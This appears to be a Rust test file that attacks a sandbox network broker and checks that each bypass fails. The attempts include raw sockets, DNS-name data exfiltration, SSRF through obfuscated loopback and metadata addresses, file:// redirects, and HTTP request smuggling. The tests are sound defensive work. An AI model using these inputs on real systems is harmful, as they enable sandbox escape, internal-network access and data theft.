//! Attempts to bypass the broker, or to misuse it.

use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::process::CommandExt as _;
use std::process::Command;

use crate::fixture::{BrokerFixture, Setup, reaching};
use crate::servers::{Server, ok};

impl BrokerFixture {
    /// Sends exactly these bytes to the broker from inside a sandbox, and returns its answer.
    async fn raw(&self, said: &str) -> String {
        let bytes = said.replace('\\', "\\\\").replace('\r', "\\r").replace('\n', "\\n").replace('%', "%%");
        self.out(&format!(
            "exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf \"$0\" >&3; timeout 5 cat <&3' '{bytes}'"
        ))
        .await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_046_only_the_brokers_socket_reaches_the_network() {
    let server = Server::new(|_| ok("hello"));
    let at = server.address();
    let world = BrokerFixture::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
    let script = r#"
import socket as s
def attempt(name, *how, to=None, send=False):
    try:
        with s.socket(*how) as one:
            one.settimeout(1)
            one.sendto(b'x', to) if send else one.connect(to)
            print('reached', name)
    except (OSError, AttributeError) as error:
        pass
attempt('tcp', s.AF_INET, s.SOCK_STREAM, to=('127.0.0.1', PORT))
attempt('tcp outside', s.AF_INET, s.SOCK_STREAM, to=('8.8.8.8', 443))
attempt('tcp6', s.AF_INET6, s.SOCK_STREAM, to=('::1', PORT))
attempt('udp', s.AF_INET, s.SOCK_DGRAM, to=('8.8.8.8', 53), send=True)
attempt('icmp', s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP, to=('8.8.8.8', 0), send=True)
attempt('ping', s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_ICMP, to=('8.8.8.8', 0), send=True)
attempt('netlink', s.AF_NETLINK, s.SOCK_RAW, to=(0, 0))
attempt('packet', s.AF_PACKET, s.SOCK_RAW, to=('lo', 0))
attempt('vsock', s.AF_VSOCK, s.SOCK_STREAM, to=(2, 1024))
attempt('abstract', s.AF_UNIX, s.SOCK_STREAM, to='\0/tmp/.X11-unix/X0')
print('done')
"#
    .replace("PORT", &server.port.to_string());
    let said = world.out(&format!("/usr/bin/python3 - <<'END'\n{script}END\ncurl -sS http://{at}/")).await;
    assert_eq!(said, "done\nhello");
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_047_sandboxes_have_no_resolver_and_the_broker_looks_up_only_allowed_names() {
    let policy = "
version: 1
rules:
  - { id: programs, effect: allow, match: { tool: shell.exec } }
  - { id: below, effect: allow, match: { tool: net.request, host: '*.allowed.invalid' } }
";
    let world = BrokerFixture::new(Setup { policy, ..Setup::default() }).await;
    let lines = "getent hosts example.com; /usr/bin/python3 -c 'import socket; socket.gethostbyname(\"example.com\")' 2>&1 | tail -n 1; \
                 ls /etc/resolv.conf 2>&1";
    let said = world.out(lines).await;
    assert!(said.contains("gaierror") && said.contains("No such file"), "{said}");
    // Denied before any lookup.
    let said = world.out("curl -sSi http://hunter2.evil.invalid/").await;
    assert!(said.contains("403") && said.contains("x-regent-verdict: deny"), "{said}");
    // Its suffix is allowed, but the name encodes data.
    let name = "onswg4tfoqqgs4zanb2w45dfoizcazdpnzsq";
    let said = world.out(&format!("curl -sSi http://{name}.allowed.invalid/")).await;
    assert!(said.contains("502") && said.contains("net.name_refused"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_048_denies_private_addresses_in_every_spelling() {
    let server = Server::new(|_| ok("hello"));
    let port = server.port;
    let world = BrokerFixture::new(Setup::default()).await;
    let hosts = [
        "127.0.0.1",
        "0x7f000001",
        "127.1",
        "2130706433",
        "0177.0.0.1",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "0.0.0.0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[2002:7f00:1::]",
        "[64:ff9b::7f00:1]",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "10.0.0.1",
    ];
    for host in hosts {
        for said in [
            world
                .raw(&format!(
                    "GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
                ))
                .await,
            world
                .raw(&format!(
                    "CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
                ))
                .await,
        ] {
            assert!(said.contains("net.address_refused"), "{host}: {said}");
        }
    }
    for target in [
        format!("http://good.test@127.0.0.1:{port}/"),
        format!("http://127.0.0.1:{port}@good.test/"),
        "file:///etc/passwd".to_owned(),
        "gopher://127.0.0.1:70/".to_owned(),
        "/".to_owned(),
    ] {
        let said = world
            .raw(&format!("GET {target} HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))
            .await;
        assert!(said.starts_with("HTTP/1.1 400"), "{target}: {said}");
    }
    assert_eq!(server.requests(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_050_each_hop_of_a_redirect_is_judged() {
    let inner = Server::new(|_| ok("inner"));
    let to = inner.address();
    let outer = Server::new(move |_| {
        format!("HTTP/1.1 302 Found\r\nlocation: http://{to}/private\r\ncontent-length: 0\r\n\r\n")
            .into_bytes()
    });
    let policy = format!(
        "
version: 1
rules:
  - {{ id: programs, effect: allow, match: {{ tool: shell.exec }} }}
  - {{ id: outer, effect: allow, match: {{ tool: net.request, port: {} }} }}
",
        outer.port
    );
    let network = reaching(&[&outer.address(), &inner.address()]);
    let world = BrokerFixture::new(Setup { policy: &policy, network, ..Setup::default() }).await;
    let said = world.out(&format!("curl -sSL http://{}/ -w ' %{{http_code}}'", outer.address())).await;
    assert!(said.ends_with(" 403") && said.contains("denied"), "{said}");
    assert_eq!((outer.requests().len(), inner.requests().len()), (1, 0));
    // The redirect leaves the web, and the broker doesn't follow.
    let leads_out = Server::new(|_| {
        b"HTTP/1.1 302 Found\r\nlocation: file:///etc/passwd\r\ncontent-length: 0\r\n\r\n".to_vec()
    });
    let network = reaching(&[&leads_out.address()]);
    let world = BrokerFixture::new(Setup { network, ..Setup::default() }).await;
    let said = world.out(&format!("curl -sSL http://{}/ 2>&1", leads_out.address())).await;
    assert!(!said.contains("root:"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_051_rejects_ambiguous_requests() {
    let server = Server::new(|_| ok("hello"));
    let at = server.address();
    let world = BrokerFixture::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
    let heads = [
        "Host: other.test\r\n".to_owned(),
        format!("Host: {at}\r\nHost: other.test\r\n"),
        format!("Host: {at}\r\nContent-Length: 3\r\nContent-Length: 4\r\n"),
        format!("Host: {at}\r\nTransfer-Encoding: chunked, identity\r\n"),
        format!("Host: {at}\r\nContent-Length: +3\r\n"),
        format!("Host: {at}\r\nbad header\r\n"),
        format!("Host: {at}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"),
    ];
    for head in heads {
        let said = world.raw(&format!("POST http://{at}/ HTTP/1.1\r\n{head}\r\n0\r\n\r\n")).await;
        // A connection that is cut with unread input may lose the answer.
        let refused = ["HTTP/1.1 400", "HTTP/1.1 501"].iter().any(|line| said.starts_with(line));
        assert!(refused || said.is_empty(), "{head:?}: {said}");
    }
    let long = "x".repeat(100_000);
    let said = world.raw(&format!("GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nX: {long}\r\n\r\n")).await;
    let refused = ["HTTP/1.1 431", "HTTP/1.1 400"].iter().any(|line| said.starts_with(line));
    assert!(refused || said.is_empty(), "{said}");
    assert_eq!(server.requests(), Vec::<String>::new());
    // Two lengths: only one is sent on, and nothing after the end of the body.
    let said = world
        .raw(&format!(
            "POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n\
             1\r\nx\r\n0\r\n\r\nGET http://{at}/smuggled HTTP/1.1\r\nHost: {at}\r\n\r\n"
        ))
        .await;
    assert!(said.starts_with("HTTP/1.1 200") || said.is_empty(), "{said}");
    let heard = server.requests();
    assert!(heard.len() == 1 && !heard[0].to_lowercase().contains("content-length"), "{heard:?}");
    // The same without the trick passes, without the connection's headers.
    let said = world
        .raw(&format!(
            "GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nTE: trailers\r\n\
             Proxy-Authorization: Basic eDp5\r\nKeep-Alive: 5\r\n\r\n"
        ))
        .await;
    assert!(said.ends_with("hello"), "{said}");
    let heard = server.requests()[1].to_lowercase();
    for name in ["x-hop", "te:", "proxy-authorization", "keep-alive"] {
        assert!(!heard.contains(name), "{heard}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_055_a_dead_broker_is_no_network() {
    let server = Server::new(|request| {
        if request.contains("/slow") {
            std::thread::sleep(std::time::Duration::from_secs(8));
        }
        ok("hello")
    });
    let at = server.address();
    let setup = Setup { network: reaching(&[&at]), serves_ms_max: Some(1_500), ..Setup::default() };
    let world = BrokerFixture::new(setup).await;
    // One request before the broker dies, one during, and one after.
    let line = format!(
        "curl -sS http://{at}/; echo; curl -sS http://{at}/slow 2>&1; curl -sS --max-time 5 http://{at}/ 2>&1; true"
    );
    let said = world.out(&line).await;
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines[0], "hello");
    assert!(lines.len() == 3 && lines[1].starts_with("curl: (") && lines[2].starts_with("curl: ("), "{said}");
    // The interrupted request has an outcome.
    let recorded = world.recorded().await;
    assert!(recorded.iter().any(|(_, body)| body["status"]["failed"]["code"] == "net.gone"), "{recorded:#?}");
}

#[test]
fn works_the_same_for_an_ordinary_user() {
    const NOBODY: u32 = 65_534;
    if !rustix::process::geteuid().is_root() {
        // Not root: every other test already ran as an ordinary user.
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (anyone, copy) = (std::fs::Permissions::from_mode(0o755), folder.path().join("tests"));
    std::fs::set_permissions(folder.path(), anyone.clone()).unwrap();
    std::fs::copy(std::env::current_exe().unwrap(), &copy).unwrap();
    std::fs::set_permissions(&copy, anyone).unwrap();
    #[expect(clippy::disallowed_methods, reason = "this test runs itself again as another user")]
    let output = Command::new(&copy)
        .args(["--skip", "works_the_same_for_an_ordinary_user"])
        .uid(NOBODY)
        .gid(NOBODY)
        .current_dir("/")
        .env_clear()
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && text.contains("test result: ok. 2"), "{text}");
}
